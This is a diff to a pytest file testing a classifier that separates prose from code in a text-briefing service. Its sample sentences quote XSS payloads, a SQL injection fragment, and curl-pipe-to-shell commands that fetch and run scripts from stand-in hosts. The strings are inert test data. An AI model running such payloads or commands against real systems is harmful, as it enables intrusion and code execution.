@@ -10,7 +10,17 @@ import unicodedata
 
 import pytest
 
-from service.preprocess.prose import KINDS, assess, block_kind
+from service.preprocess.html import looks_like_html
+from service.preprocess.prose import (
+    KINDS,
+    LONG_TOKEN,
+    MIN_PROSE_SHARE,
+    MIN_RUN_WORDS,
+    assess,
+    block_kind,
+    sentence_chars,
+)
+from tests.prose_samples import CODE_DUMPS, QUOTING_CODE
 
 _rng = random.Random(7)
 
@@ -186,3 +196,133 @@ def test_a_story_with_a_long_results_table_is_prose(make_client) -> None:
     # Prose beside encoded data or code is judged by share alone.
     story = _marathon(8).split("\n1\t")[0]
     assert not assess(f"{story}\n\n{MINIFIED[:20_000]}").prose
+
+
+# --- Prose that quotes code is prose (issue 20, item 10) ------------------------------------
+# Judged by how much of the text reads as sentences, not by the presence of code: news about
+# software, security flaws and the web quotes payloads, snippets, tags, commands and JSON.
+
+
+@pytest.mark.parametrize("name", sorted(QUOTING_CODE))
+def test_prose_that_quotes_code_is_prose(name: str) -> None:
+    verdict = assess(QUOTING_CODE[name])
+    assert verdict.prose, verdict
+    assert verdict.prose_share >= MIN_PROSE_SHARE
+
+
+@pytest.mark.parametrize("name", sorted(CODE_DUMPS))
+def test_mostly_code_markup_a_table_or_encoded_data_is_still_refused(name: str) -> None:
+    verdict = assess(CODE_DUMPS[name])
+    assert not verdict.prose, verdict
+    assert verdict.prose_share < MIN_PROSE_SHARE
+    assert verdict.kind in KINDS and verdict.description
+
+
+@pytest.mark.parametrize(
+    "paragraph",
+    [
+        # The issue's cases: a news item quoting an <img onerror> and a <script> payload, a
+        # paragraph explaining the <b> and <a> tags (both were 0.0 prose: "code").
+        QUOTING_CODE["en: five sentences, two payloads"],
+        QUOTING_CODE["en: explaining the b and a tags"],
+        QUOTING_CODE["en: four sentences on b and a, in backticks"],
+        QUOTING_CODE["de: kurze Meldung mit zwei Payloads"],
+    ],
+)
+def test_a_paragraph_quoting_code_is_a_prose_block(paragraph: str) -> None:
+    assert "\n" not in paragraph  # one block
+    assert block_kind(paragraph) is None
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "Attackers could post <img src=x onerror=alert(1)> as a comment to run code there.",
+        "The login query became SELECT * FROM users WHERE name = '' OR '1'='1' and matched "
+        "every account in the table.",
+        "A request for /api/v2/bookings?ref=ABC123 returned {\"name\": \"J. Doe\"} for "
+        "any reference at all.",
+        "Der Eintrag `<script>alert(document.cookie)</script>` wurde ungefiltert im "
+        "Gästebuch angezeigt.",  # code after two words: the line holds a sentence
+        "`git reflog` finds the commits that a reset seemed to lose.",  # opens the line
+        "To install it, the project asks users to run curl -fsSL https://x.example | sh",
+        "攻击者使用 curl -s http://192.0.2.8/a.sh | sh 命令下载并运行了恶意脚本。",
+    ],
+)
+def test_the_code_a_sentence_quotes_is_part_of_the_sentence(sentence: str) -> None:
+    # All of it (a quoted token counts up to LONG_TOKEN characters).
+    assert sentence_chars(sentence) >= sum(min(len(t), LONG_TOKEN) for t in sentence.split())
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "for line in Path(path).read_text().splitlines():",
+        "    return sum(sum(item.values()) for item in self.items)",
+        "    c.items[key] = c.list.PushFront(&entry{key, value})",
+        "ORDER BY month DESC, revenue DESC;",
+        "JOIN customers c ON c.id = o.customer_id",
+        ".card { display: grid; grid-template-columns: 1fr 2fr; gap: 1rem; }",
+        "GeneralMills.Register(moduleName, configuration, componentMetadata, isVueModule)",
+        'echo "deployed $(git rev-parse --short HEAD) to ${#HOSTS[@]} hosts"',
+    ],
+)
+def test_a_line_of_code_is_mostly_not_sentences(line: str) -> None:
+    assert sentence_chars(line) < MIN_PROSE_SHARE * len("".join(line.split()))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '  "summary": "Heavy rain closed several roads on Monday morning",',  # a value
+        '{"标题": "北京今天下雨", "摘要": "暴雨导致多条道路封闭，交通受到严重影响"}',
+        "<item><title>Storm floods coastal roads in the north</title></item>",  # an element
+        "| Altrincham and Sale West | Sir Graham Brady | altsale@parliament.uk |",  # a row
+    ],
+)
+def test_the_words_of_a_record_or_a_table_row_are_not_sentences(line: str) -> None:
+    assert sentence_chars(line) == 0
+
+
+def test_a_comment_counts_as_a_sentence_but_not_the_code_it_explains() -> None:
+    comment = "# Deploy the current branch to the staging servers, one at a time."
+    code = 'rsync -az --delete ./dist/ "deploy@${host}:/srv/app/"'
+    assert sentence_chars(comment) == len("".join(comment.split()))
+    assert sentence_chars(f"{comment}\n{code}") == sentence_chars(comment)
+    assert sentence_chars("return counts") == sentence_chars("import os") == 0
+    assert MIN_RUN_WORDS == 3
+
+
+def test_the_share_of_sentences_decides_not_the_presence_of_code() -> None:
+    story = QUOTING_CODE["en: release note with a three-line snippet"]
+    intro, snippet, outro = story.split("\n\n")
+    assert block_kind(snippet) == "code"
+    assert assess(story).prose  # a three-line snippet in a release note
+    # The same sentences around ever more of the snippet: refused once code is most of it.
+    verdicts = [assess("\n\n".join([intro, "\n".join([snippet] * n), outro]))
+                for n in (1, 2, 4, 8)]
+    shares = [v.prose_share for v in verdicts]
+    assert shares == sorted(shares, reverse=True)
+    assert verdicts[0].prose and not verdicts[-1].prose and verdicts[-1].kind == "code"
+
+
+def test_chinese_sentences_weigh_as_much_as_they_say() -> None:
+    # A Chinese character says about as much as two letters: a Chinese story quoting a long
+    # request line is judged by that, and a Chinese comment does not make a program prose.
+    assert assess(QUOTING_CODE["zh: 漏洞请求单独成行"]).prose
+    program = "# 读取配置文件并返回每个键的计数。\n" + PYTHON_SOURCE[:600]
+    assert not assess(program).prose
+
+
+def test_the_api_briefs_prose_that_quotes_code(make_client) -> None:
+    client = make_client()
+    for name, text in QUOTING_CODE.items():
+        response = client.post("/v1/briefings", json={"text": text})
+        assert response.status_code == 200, (name, response.text)
+        assert response.json()["short"], name
+    for name, text in CODE_DUMPS.items():
+        if looks_like_html(text):
+            continue  # a page: its extracted text is judged
+        response = client.post("/v1/briefings", json={"text": text})
+        assert response.status_code == 422, name
+        assert response.json()["error"]["code"] == "not_prose", name
